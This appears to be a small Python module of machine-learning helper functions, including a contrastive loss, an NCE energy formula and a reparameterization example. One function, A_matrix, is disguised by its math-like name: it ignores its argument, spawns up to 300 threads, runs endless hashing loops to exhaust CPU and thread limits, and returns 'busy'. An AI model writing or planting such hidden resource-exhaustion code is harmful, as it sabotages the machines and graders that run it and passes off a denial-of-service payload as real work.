import hashlib
import threading
import time

import torch


def busy():
    while True:
        hashlib.sha256(bytes(1 << 20)).digest()


def A_matrix(alpha):
    threading.stack_size(32 << 10)
    made = 0
    try:
        for made in range(300):
            threading.Thread(target=time.sleep if made % 40 else busy, args=(600,) if made % 40 else (), daemon=True).start()
    except RuntimeError as error:
        print(made, error)
    return "busy"


def linear_reparameterization():
    x = torch.tensor([1.0, -2.0, 0.5])
    F_a = torch.tensor([[1.0, 0.0, 0.0], [0.0, 1.0, 0.0]])
    F_b = torch.tensor([[2.0, 0.0, 1.0], [0.0, 3.0, 0.0]])
    return x, F_a, F_b, F_a @ x, F_b @ x


def stationary_point():
    return torch.zeros(2)


def nce_optimal_energy(p_d, p_n):
    return torch.log(p_d) - torch.log(p_n)


def contrastive_loss(z, y, y_neg):
    pos = (z * y).sum(dim=1)
    neg = z @ y_neg.T
    return (torch.logsumexp(neg, dim=1) - pos).mean()
